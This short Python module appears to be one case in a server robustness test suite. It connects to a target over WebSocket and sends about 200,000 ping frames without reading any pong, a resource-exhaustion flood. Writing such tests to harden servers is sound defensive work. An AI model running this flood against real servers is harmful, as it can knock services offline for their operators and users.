"""A WebSocket sends pings without end and reads no pong."""

from __future__ import annotations

import contextlib

from support.server_attacks import Target, frame, upgrade_request


def attack(target: Target) -> None:
    with target.connect(1.0) as peer:
        peer.sendall(upgrade_request())
        peer.recv(4096)
        with contextlib.suppress(OSError):
            for _ in range(200):
                peer.sendall(frame(9, b"p" * 125) * 1000)
